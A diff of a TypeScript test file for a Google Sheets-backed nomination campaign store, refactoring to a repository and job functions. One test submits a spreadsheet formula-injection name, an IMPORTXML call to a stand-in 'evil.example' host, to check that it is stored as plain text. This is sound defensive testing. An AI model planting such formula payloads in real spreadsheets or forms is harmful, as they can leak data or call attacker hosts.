@@ -4,7 +4,7 @@
  */
 import { describe, expect, test } from 'vitest';
 import { STATUS_LABEL } from '../../shared/domain/vocabulary.js';
-import { CampaignStore } from '../../shared/store/campaign-store.js';
+import { CampaignRepository } from '../../shared/store/campaign-repository.js';
 import { cellA1, columnLetters } from '../../shared/store/google-sheets-a1.js';
 import { ATTENTION_FILL, COUNCIL_FILL } from '../../shared/store/google-sheets-provision.js';
 import { layoutsFor, type TabLayout } from '../../shared/store/layouts.js';
@@ -13,6 +13,10 @@ import { Faults, type FakeSheets } from '../fakes/sheets-fake.js';
 import { campaigns, rawIndividual, scoresTotalling, vanNinh } from '../support/builders.js';
 import { googleStore, newFake, rawClient, serveFakeSheets, SERVICE_ACCOUNT } from './google-sheets-contract-harness.js';
 import { PEOPLE, person } from './table-store.contract.js';
+import { initCampaign } from '../../shared/jobs/init-campaign.js';
+import { intake as takeIn } from '../../shared/jobs/intake.js';
+import { recompute } from '../../shared/jobs/recompute.js';
+import { snapshotOf } from '../support/campaign.js';
 
 serveFakeSheets();
 
@@ -40,7 +44,7 @@ async function provisioned(options: Parameters<typeof googleStore>[1] = {}) {
   const fake = newFake();
   const id = fake.createSpreadsheet({ title: 'Thi đua Vạn Ninh' });
   const { store, waits } = googleStore(id, options);
-  const campaign = await CampaignStore.init(store, vanNinh());
+  const campaign = await initCampaign(store, vanNinh());
   fake.resetCounts();
   return { fake, id, store, waits, campaign };
 }
@@ -158,7 +162,7 @@ describe('writing efficiently and safely', () => {
   test('stores a formula-looking name as text (written RAW)', async () => {
     const { fake, id, campaign } = await provisioned();
     const name = '=IMPORTXML("https://evil.example/x", "//a")';
-    await campaign.intake(submit(rawIndividual({ responseId: 'f', name })), NOW);
+    await takeIn(campaign, submit(rawIndividual({ responseId: 'f', name })), NOW);
     const col = nominationsTab().columns.findIndex((c) => c.key === 'name');
     expect(fake.cell(id, cellA1(nominationsTab().title, col, 2))).toEqual({ kind: 'text', text: name });
   });
@@ -205,14 +209,14 @@ describe('writing efficiently and safely', () => {
     const { fake, campaign } = await provisioned();
     const totals = [100, 99, 98, 97, 96, 95];
     const payloads = Array.from({ length: n }, (_, i) => rawIndividual({ responseId: `n-${i}`, selfScores: scoresTotalling('individual', totals[i % totals.length]!) }));
-    await campaign.intake(submit(...payloads), NOW);
+    await takeIn(campaign, submit(...payloads), NOW);
     const intake = total(fake);
     fake.resetCounts();
-    const { decisions } = await campaign.recompute(NOW);
+    const { decisions } = await recompute(campaign, NOW);
     expect(decisions).toHaveLength(n);
     const first = total(fake);
     fake.resetCounts();
-    await campaign.recompute(LATER);
+    await recompute(campaign, LATER);
     return { intake, first, steady: calls(fake) };
   }
 
@@ -334,28 +338,28 @@ describe('when Google fails', () => {
 describe('the campaign over Google Sheets', () => {
   test('takes nominations in, recomputes, and reopens from the sheet alone', async () => {
     const { fake, id, campaign } = await provisioned();
-    const outcomes = await campaign.intake(
+    const outcomes = await takeIn(campaign, 
       submit(rawIndividual({ responseId: 'a' }), { responseId: 'b' }, rawIndividual({ responseId: 'a' }), rawIndividual({ responseId: 'c', name: 'Võ Thị Sáu' })),
       NOW,
     );
     expect(outcomes.map((o) => o.kind)).toEqual(['accepted', 'rejected', 'duplicate', 'accepted']);
-    const { decisions } = await campaign.recompute(NOW);
+    const { decisions } = await recompute(campaign, NOW);
     expect(decisions.map((d) => [d.responseId, d.status])).toEqual([
       ['a', 'proposed'],
       ['c', 'proposed'],
     ]);
-    const reopened = await CampaignStore.open(googleStore(id).store, campaigns);
+    const reopened = await CampaignRepository.open(googleStore(id).store, campaigns);
     expect(reopened.campaign.id).toBe('van-ninh-dan-van-kheo');
-    const { nominations } = await reopened.snapshot();
+    const { nominations } = await snapshotOf(reopened);
     expect(nominations.map((n) => n.name)).toContain('Võ Thị Sáu');
     expect(fake.values(id, `'${layoutsFor(vanNinh()).get('rejections')!.title}'`)).toHaveLength(2);
   });
 
   test('stores one row when two stores on the same sheet take in the same responseId at once', async () => {
     const { id, store, campaign } = await provisioned();
-    const other = await CampaignStore.open(googleStore(id).store, campaigns);
+    const other = await CampaignRepository.open(googleStore(id).store, campaigns);
     const raw = rawIndividual({ responseId: 'twice' });
-    const outcomes = await Promise.all([campaign.intake(submit(raw), NOW), other.intake(submit(raw), NOW)]);
+    const outcomes = await Promise.all([takeIn(campaign, submit(raw), NOW), takeIn(other, submit(raw), NOW)]);
     expect(outcomes.flat().map((o) => o.kind).sort()).toEqual(['accepted', 'duplicate']);
     const rows = (await store.readTabs([nominationsTab()])).get('nominations') ?? [];
     expect(rows.filter((r) => r.responseId === 'twice')).toHaveLength(1);
